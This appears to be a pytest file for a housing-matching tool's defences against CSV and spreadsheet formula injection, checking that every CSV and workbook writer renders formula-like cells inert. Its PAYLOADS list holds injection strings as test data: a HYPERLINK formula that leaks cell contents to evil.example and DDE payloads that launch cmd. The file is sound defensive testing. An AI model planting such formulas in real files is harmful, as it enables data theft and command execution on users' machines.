"""Formula injection: input refuses formula-like ids, outputs cannot hold a live formula.

Every CSV and workbook writer goes through matcher/io/safe_text.py (docs/decisions.md, "Formula-like
text in outputs"): for each writer a formula-like value is fed in and the file read back (csv or
openpyxl) must hold no cell that begins with = + - @ tab CR, except plain numbers such as `-1.5`.
"""

import csv
import hashlib
import io
import re
import zipfile
from datetime import date
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from matcher.io.safe_text import FORMULA_STARTS, csv_rows_text, csv_text, neutralise
from matcher.review.workbook import _text_only
from models.fields import _safe_text


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_safe_text_refuses_formula_starts(start):
    with pytest.raises(ValueError, match="formula"):
        _safe_text(start + "HYPERLINK(1)")


@pytest.mark.parametrize("text", ["a\tb", "a\rb", "a\nb", "a\x01b"])
def test_safe_text_refuses_control_characters(text):
    with pytest.raises(ValueError, match="control"):
        _safe_text(text)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\tx", "\rx"])
def test_neutralise_prefixes_quote(text):
    assert neutralise(text) == "'" + text


def test_neutralise_leaves_plain_values():
    assert neutralise("C-001") == "C-001"
    assert neutralise(5) == 5


def test_workbook_cell_is_string_and_round_trips():
    book = Workbook()
    book.active.cell(row=1, column=1, value='=IMPORTXML("http://x/",A1)')
    _text_only(book)
    buffer = io.BytesIO()
    book.save(buffer)
    cell = load_workbook(io.BytesIO(buffer.getvalue())).active["A1"]
    assert cell.data_type == "s"
    assert cell.value == '=IMPORTXML("http://x/",A1)'


def test_validate_refuses_a_formula_id_naming_file_row_and_column(tmp_path):
    """End to end: `matcher validate` exits 2 and names clients.csv, row 9, column client_id."""
    import shutil
    from pathlib import Path

    from click.testing import CliRunner

    from matcher.cli.main import main

    folder = tmp_path / "inj"
    shutil.copytree(Path(__file__).resolve().parents[2] / "instances" / "tiny", folder)
    clients = folder / "clients.csv"
    clients.write_text(clients.read_text().replace("\nC08,", "\n=HYPERLINK(1),"))
    result = CliRunner().invoke(main, ["validate", str(folder)])
    assert result.exit_code == 2
    assert "clients.csv, row 9, column client_id: begins with '='" in result.output


# --- the output layer: matcher/io/safe_text.py -------------------------------------------------

ROOT = Path(__file__).resolve().parents[2]
TINY = ROOT / "instances" / "tiny"
# what a red team puts in a cell: a hyperlink that leaks, DDE, the @ operator, tab and CR starts
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+31 Wonen",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def csv_cells(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def raw(path: Path) -> str:
    """A file's text as written: no newline translation, so a CR inside a cell stays a CR."""
    return path.read_bytes().decode("utf-8")


def formula_cells(rows: list[list[str]]) -> list[str]:
    """The cells that begin like a formula; a plain number (`-1.5`) is a number, not a formula."""
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(cell)
    ]


def folder_formula_cells(folder: Path) -> dict[str, list[str]]:
    """Per CSV file of `folder` (`,` or `;` separated), its cells that begin like a formula."""
    found = {}
    for file in sorted(folder.glob("*.csv")):
        text = raw(file)
        header = text.split("\n", 1)[0]
        cells = formula_cells(csv_cells(text, ";" if header.count(";") > header.count(",") else ","))
        if cells:
            found[file.name] = cells
    return found


def test_csv_text_neutralises_text_cells_and_headers_not_numbers():
    frame = pd.DataFrame(
        {
            "=name": ["=1+1", "-x", "C01", None],
            "score": [-1.5, 2.0, -0.0, 3.25],
            "count": [-3, 4, 5, 6],
            "mixed": pd.Series(["@x", -2.5, 7, "ok"], dtype=object),
        }
    )
    rows = csv_cells(csv_text(frame))
    assert rows == [
        ["'=name", "score", "count", "mixed"],
        ["'=1+1", "-1.5", "-3", "'@x"],
        ["'-x", "2.0", "4", "-2.5"],
        ["C01", "-0.0", "5", "7"],
        ["", "3.25", "6", "ok"],
    ]
    assert formula_cells(rows) == []


@pytest.mark.parametrize("options", [{}, {"float_format": "%.3g"}, {"sep": ";"}, {"header": False}])
def test_csv_text_is_plain_to_csv_for_clean_data(options):
    """For data without formula-like text, csv_text is exactly `to_csv(index=False, lineterminator="\\n")`."""
    frame = pd.DataFrame(
        {
            "client_id": ["C01", "C02"],
            "weight": [1.23456789012, -2.0],
            "n": [1, -2],
            "kind": pd.Categorical(["room", "cluster"]),
        }
    )
    assert csv_text(frame, **options) == frame.to_csv(index=False, lineterminator="\n", **options)


def test_csv_text_neutralises_the_text_its_keywords_add():
    frame = pd.DataFrame({"a": [None, "x"]}, index=pd.Index(["=i", "j"], name="@idx"))
    assert csv_cells(csv_text(frame, na_rep="-", index=True)) == [["'@idx", "a"], ["'=i", "'-"], ["j", "x"]]
    assert csv_cells(csv_text(frame, header=["+h"])) == [["'+h"], [""], ["x"]]


def test_csv_text_neutralises_repeated_and_categorical_columns():
    frame = pd.DataFrame([["=a", "@b", "-c"]], columns=["x", "x", "y"]).astype({"y": "category"})
    assert csv_cells(csv_text(frame)) == [["x", "x", "y"], ["'=a", "'@b", "'-c"]]


def test_a_carriage_return_inside_a_cell_cannot_start_a_row():
    """csv.writer leaves a bare CR unquoted with "\\n" line ends, so "x\\r=CMD()" would start a row
    whose first cell is a formula; with a CR anywhere the file is quoted throughout."""
    frame = pd.DataFrame({"landlord": ["Elan\r=HYPERLINK(1)", "Pré Wonen"], "rent": [650.0, -1.5]})
    assert csv_cells(csv_text(frame)) == [
        ["landlord", "rent"],
        ["Elan\r=HYPERLINK(1)", "650.0"],
        ["Pré Wonen", "-1.5"],
    ]
    assert csv_cells(csv_rows_text([["a", "x\r@y"], ["b", "c"]])) == [["a", "x\r@y"], ["b", "c"]]


def test_csv_rows_text_keeps_numbers_only_in_number_columns():
    """Cells read from a CSV are all text: only where a column holds numbers is `-0` kept as it is."""
    rows = [
        ["unit_id", "rent", "max_household"],
        ["=U1", "-0", "+2"],
        ["U2", "-1+1", "+1_000"],
        ["U3", "-1,5", "@x"],
        ["U4", -2.5, None],
    ]
    assert csv_cells(csv_rows_text(rows, ";", number_columns={1, 2}), ";") == [
        ["unit_id", "rent", "max_household"],
        ["'=U1", "-0", "+2"],
        ["U2", "'-1+1", "+1_000"],
        ["U3", "-1,5", "'@x"],
        ["U4", "-2.5", ""],
    ]
    assert csv_cells(csv_rows_text(rows[1:2])) == [["'=U1", "'-0", "'+2"]]


TEXT = st.text(alphabet=st.one_of(st.sampled_from("=+-@\t\r\n\"';, x1"), st.characters()), max_size=10)


@settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    columns=st.lists(TEXT, min_size=1, max_size=4),
    data=st.data(),
    dtype=st.sampled_from([object, "str"]),
    quoting=st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL]),
)
def test_csv_text_of_any_text_frame_holds_no_formula(columns, data, dtype, quoting):
    """Parsed back with the csv module, no cell of csv_text begins like a formula; every cell and
    the number of rows survive (a `'` in front of formula-like text, nothing else changed)."""
    cells = data.draw(st.lists(st.lists(TEXT, min_size=len(columns), max_size=len(columns)), max_size=5))
    frame = pd.DataFrame(cells, columns=columns, dtype=dtype)
    rows = csv_cells(csv_text(frame, quoting=quoting))
    assert [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)] == []
    assert rows == [[neutralise(label) for label in columns]] + [
        [neutralise(cell) for cell in row] for row in cells
    ]


@settings(max_examples=200, deadline=None, suppress_health_check=list(HealthCheck))
@given(rows=st.lists(st.lists(TEXT, min_size=1, max_size=4), max_size=6), delimiter=st.sampled_from(",;\t"))
def test_csv_rows_text_of_any_rows_holds_no_formula(rows, delimiter):
    parsed = csv_cells(csv_rows_text(rows, delimiter), delimiter)
    assert [cell for row in parsed for cell in row if cell.startswith(FORMULA_STARTS)] == []
    assert parsed == [[neutralise(cell) for cell in row] for row in rows]


# --- every writer ------------------------------------------------------------------------------


def test_write_proposal_holds_no_formula(tmp_path, monkeypatch):
    """Formula-like ids, landlord names and details that reach write_proposal are written inert."""
    from matcher.io.read import read_instance
    from matcher.io.write import write_proposal
    from matcher.proposal import Proposal, solve
    from matcher.solver.settings import SolveSettings

    proposal = solve(read_instance(TINY))
    matches, unmatched = Proposal.match_table, Proposal.unmatched_table

    def poisoned_matches(self):
        table = matches(self)
        landlord, client_id = list(table["landlord"]), list(table["client_id"])
        landlord[: len(PAYLOADS)] = PAYLOADS[: len(landlord)]
        client_id[0] = PAYLOADS[3]
        return table.assign(landlord=landlord, client_id=client_id)

    def poisoned_unmatched(self):
        table = unmatched(self)
        client_id, detail = list(table["client_id"]), list(table["detail"])
        client_id[0], detail[0] = PAYLOADS[2], "x\r" + PAYLOADS[0]
        return table.assign(client_id=client_id, detail=detail)

    monkeypatch.setattr(Proposal, "match_table", poisoned_matches)
    monkeypatch.setattr(Proposal, "unmatched_table", poisoned_unmatched)
    out = tmp_path / "out"
    result = write_proposal(proposal, TINY, out, SolveSettings())
    assert folder_formula_cells(out) == {}
    proposals = csv_cells(raw(out / "proposals.csv"))
    assert proposals[1][proposals[0].index("landlord")] == "'" + PAYLOADS[0]
    assert len(csv_cells(raw(out / "unmatched.csv"))) == len(proposal.unmatched()) + 1
    assert (
        result["outputs"]["proposals.csv"] == hashlib.sha256((out / "proposals.csv").read_bytes()).hexdigest()
    )


def test_redacted_csv_holds_no_formula(tiny_copy, tmp_path):
    """Formula-like names in an (invalid, so redacted anyway) source are written inert."""
    from matcher.audit.redact import redact_instance

    def replace(name: str, old: str, new: str) -> None:
        file = tiny_copy / name
        assert old in raw(file)
        file.write_bytes(raw(file).replace(old, new).encode("utf-8"))

    replace("municipalities.csv", ",Haarlem,", ',"=HYPERLINK(""http://x"",""Haarlem"")",')
    replace("municipalities.csv", ",Velsen,", ',"Velsen\r@SUM(1)",')
    replace("neighbourhoods.csv", ",Oude Stad,", ",-2+3+cmd,")
    replace("units.csv", ",Pré Wonen,", ",=Pré Wonen,")
    assert redact_instance(tiny_copy, tmp_path / "shared", key="k").source_problems > 0
    shared = tmp_path / "shared"
    assert folder_formula_cells(shared) == {}
    names = [row[1] for row in csv_cells(raw(shared / "municipalities.csv"))]
    assert names[:3] == ["name", "'" + '=HYPERLINK("http://x","Haarlem")', "Velsen\r@SUM(1)"]
    assert len(names) == len(csv_cells(raw(tiny_copy / "municipalities.csv")))


def test_redacted_values_the_reader_accepts_round_trip(tiny_copy, tmp_path):
    """A signed number (`+650`, `-0`) keeps its sign and a leading tab is dropped, as the reader
    drops it: the copy reads as the same instance, up to pseudonyms."""
    from matcher.audit.redact import redact_instance
    from matcher.io.read import read_instance

    units, neighbourhoods = tiny_copy / "units.csv", tiny_copy / "neighbourhoods.csv"
    units.write_text(units.read_text(encoding="utf-8").replace(",650,1,", ",+650,+1,"), encoding="utf-8")
    neighbourhoods.write_text(
        neighbourhoods.read_text(encoding="utf-8").replace(",6304,0,", ",6304,-0,"), encoding="utf-8"
    )
    capacity = tiny_copy / "support_capacity.csv"
    capacity.write_text(
        capacity.read_text(encoding="utf-8").replace("\nGM0453,", '\n"\tGM0453",'), encoding="utf-8"
    )
    source = read_instance(tiny_copy)
    redact_instance(tiny_copy, tmp_path / "shared", key="k")
    shared = tmp_path / "shared"
    assert ",+650,+1," in raw(shared / "units.csv")
    assert ",6304,-0," in raw(shared / "neighbourhoods.csv")
    assert "\nGM0453,protected" in raw(shared / "support_capacity.csv")
    copy = read_instance(shared)
    assert [(u.rent, u.max_household) for u in copy.units] == [
        (u.rent, u.max_household) for u in source.units
    ]
    assert (copy.municipalities, copy.neighbourhoods) == (source.municipalities, source.neighbourhoods)
    assert copy.support_capacity == source.support_capacity


def _tiny_workbook_with(tmp_path: Path, change) -> Path:
    from fuzzing import tiny_workbook

    path = tmp_path / "week.xlsx"
    path.write_bytes(tiny_workbook())
    book = load_workbook(path)
    change(book)
    book.save(path)
    return path


def test_redacted_workbook_keeps_a_formulas_result_not_the_formula(tmp_path):
    """A formula becomes its saved result, which is what the reader reads: no formula is left."""
    from matcher.audit.redact import redact_instance
    from matcher.io.read import read_instance

    source = _tiny_workbook_with(tmp_path, lambda book: book["clients"].__setitem__("K3", '="GM0453"'))
    with zipfile.ZipFile(source) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = next(n for n, d in parts.items() if n.startswith("xl/worksheets/") and b'<f>"GM0453"</f>' in d)
    # what Excel saves: the formula and its result, typed as text
    parts[sheet] = parts[sheet].replace(
        b'<c r="K3"><f>"GM0453"</f><v />', b'<c r="K3" t="str"><f>"GM0453"</f><v>GM0453</v>'
    )
    with zipfile.ZipFile(source, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    assert "GM0453" in read_instance(source).clients[1].excluded_municipalities

    redact_instance(source, tmp_path / "shared", key="k")
    copy = tmp_path / "shared" / "week.xlsx"
    with zipfile.ZipFile(copy) as archive:
        assert not [name for name in archive.namelist() if b"<f>" in archive.read(name)]
    assert "GM0453" in read_instance(copy).clients[1].excluded_municipalities


def test_redacted_workbook_text_stays_text(tmp_path):
    """A text cell that begins with `=` (an invalid name, redacted anyway) stays a string cell."""
    from matcher.audit.redact import redact_instance

    def poison(book):
        book["municipalities"]["B2"] = PAYLOADS[0]
        book["municipalities"]["B2"].data_type = "s"

    source = _tiny_workbook_with(tmp_path, poison)
    assert load_workbook(source)["municipalities"]["B2"].data_type == "s"
    redact_instance(source, tmp_path / "shared", key="k")
    cell = load_workbook(tmp_path / "shared" / "week.xlsx")["municipalities"]["B2"]
    assert (cell.data_type, cell.value) == ("s", PAYLOADS[0])


def test_generated_instance_holds_no_formula_and_numbers_keep_their_sign(tmp_path):
    """write_instance writes formula-like text inert; a negative number stays a number."""
    from matcher.generate.instance import generate_instance, write_instance

    tables = generate_instance("all", 30, 12, 5, date(2026, 11, 23))
    tables["units"].loc[0, "landlord"] = PAYLOADS[0]
    tables["municipalities"].loc[0, "name"] = PAYLOADS[3]
    tables["neighbourhoods"].loc[0, "name"] = "x\r" + PAYLOADS[2]
    tables["neighbourhoods"].loc[0, "recent_load"] = -3
    tables["units"].loc[0, "rent"] = -1.5
    folder = write_instance(tables, tmp_path / "generated")
    assert folder_formula_cells(folder) == {}
    units = csv_cells(raw(folder / "units.csv"))
    assert units[1][units[0].index("landlord")] == "'" + PAYLOADS[0]
    assert units[1][units[0].index("rent")] == "-1.50"
    neighbourhoods = csv_cells(raw(folder / "neighbourhoods.csv"))
    assert neighbourhoods[1][neighbourhoods[0].index("recent_load")] == "-3"
    assert len(neighbourhoods) == len(tables["neighbourhoods"]) + 1


def test_generated_files_are_unchanged_for_valid_data():
    """For the generator's own (valid) tables the CSV bytes are those of the plain to_csv."""
    from matcher.generate.instance import CSV_FILES, _cell, _csv_text, generate_instance

    tables = generate_instance("all", 60, 30, 11, date(2026, 11, 23))
    for name in CSV_FILES:
        frame = tables[name.removesuffix(".csv")]
        plain = frame.astype(object).map(_cell) if len(frame) else frame.astype(str)
        assert _csv_text(frame) == plain.to_csv(index=False, lineterminator="\n"), name


def test_stress_report_csv_holds_no_formula(tmp_path, monkeypatch):
    """Every table the stress report writes holds no formula; negative numbers stay numbers."""
    from matcher.stress import load_sweep, report, run_sweep

    result = run_sweep(
        load_sweep(ROOT / "instances" / "scenarios" / "tiny.yaml"), serial=True, progress=False
    )
    for frame in (
        result.kpis,
        result.summary,
        result.placements,
        result.neighbourhoods,
        result.intake,
        result.scenarios,
        result.people,
        result.vacancies,
        result.runs_table,
        result.paired,
        result.waiting,
    ):
        text = [column for column in frame.columns if pd.api.types.is_string_dtype(frame[column])]
        numbers = [column for column in frame.columns if pd.api.types.is_float_dtype(frame[column])]
        for position, column in enumerate(text):
            frame[column] = frame[column].astype(object)
            frame.loc[frame.index[0], column] = PAYLOADS[position % len(PAYLOADS)]
        if numbers:
            frame.loc[frame.index[0], numbers[0]] = -1.5
    for picture in ("paired", "tradeoff", "waiting", "utilisation_map", "queue"):
        monkeypatch.setattr(report.plots, picture, lambda *args, **kwargs: None)
    monkeypatch.setattr(report, "report_html", lambda *args, **kwargs: "")
    written = report.write_outputs(result, tmp_path / "stress")
    assert {name for name in written if name.endswith(".csv")} == {
        "kpis.csv",
        "summary.csv",
        "placements.csv",
        "neighbourhoods.csv",
        "intake.csv",
        "scenarios.csv",
        "people.csv",
        "vacancies.csv",
        "runs.csv",
        "paired.csv",
        "waiting.csv",
        "load.csv",
    }
    assert folder_formula_cells(tmp_path / "stress") == {}
    summary = raw(tmp_path / "stress" / "summary.csv")
    assert ",-1.5," in summary or "\n-1.5," in summary or ",-1.5\n" in summary


def test_history_csv_holds_no_formula(monkeypatch):
    """`matcher history --format csv` prints formula-like week labels inert, numbers as numbers."""
    from click.testing import CliRunner

    import matcher.review.history
    from matcher.cli.main import main

    frame = pd.DataFrame({"week": [PAYLOADS[0], "2026-11-23"], "proposed": [5, -1], "open": [0.5, -2.5]})
    monkeypatch.setattr(matcher.review.history, "weekly_history", lambda ledger: frame)
    result = CliRunner().invoke(main, ["history", "--ledger", "ledger.sqlite", "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert csv_cells(result.output) == [
        ["week", "proposed", "open"],
        ["'" + PAYLOADS[0], "5", "0.5"],
        ["2026-11-23", "-1", "-2.5"],
    ]


@pytest.mark.parametrize(
    "landlord,client,unit",
    [
        (PAYLOADS[0], "C01", "U01"),
        ("Pré Wonen", "=1+1", "@U1"),
        ("+31 Wonen", "-C1", "+U1"),
        ("-x", "@SUM(A1)", "U01"),
        ("\t=1+1", "C01", "\r=U1"),
        ("=Elan\r", "C01", "U1\r\n=1+1"),
    ],
)
def test_landlord_workbook_types_formula_like_text_as_text_and_imports(tmp_path, landlord, client, unit):
    """A formula-like landlord, client or unit that reaches workbook_bytes is a string cell (never a
    formula), and the returned workbook imports: its hidden record is not 'damaged'."""
    from matcher.review.ledger import ProposalRecord, ProposedPair
    from matcher.review.workbook import FIRST_ROW, KEYS, REVIEW_SHEET, read_workbook, workbook_bytes

    pair = ProposedPair(client, unit, landlord, "GM0392", "WK039201", "social_rental", "light", 1)
    record = ProposalRecord(
        "0123456789abcdef", date(2026, 11, 23), date(2026, 11, 29), "tiny", 8, 6, 5, 3, (pair,)
    )
    rows = [
        {
            "client_id": client,
            "household_size": 1,
            "support_intensity": "light",
            "provider_needed": "no",
            "unit_id": unit,
            "rent": 650.0,
            "move_in_from": date(2026, 11, 23),
            "landlord": landlord,
            "municipality_id": "GM0392",
            "neighbourhood_id": "WK039201",
            "unit_type": "social_rental",
            "load": 1,
        }
    ]
    path = tmp_path / "book.xlsx"
    path.write_bytes(workbook_bytes(record, landlord, rows))
    with zipfile.ZipFile(path) as archive:
        assert not [name for name in archive.namelist() if b"<f>" in archive.read(name)]
    book = load_workbook(path)
    formula_like = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.lstrip("\r\n\t").startswith(("=", "+", "-", "@"))
    ]
    assert formula_like and all(cell.data_type == "s" for cell in formula_like)
    assert not [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]

    book[REVIEW_SHEET].cell(row=FIRST_ROW, column=KEYS.index("decision") + 1, value="accept")
    book.save(path)
    batch, problems = read_workbook(path)
    assert problems == []
    assert [(d.decision, d.party) for d in batch.decisions] == [("accept", "landlord")]
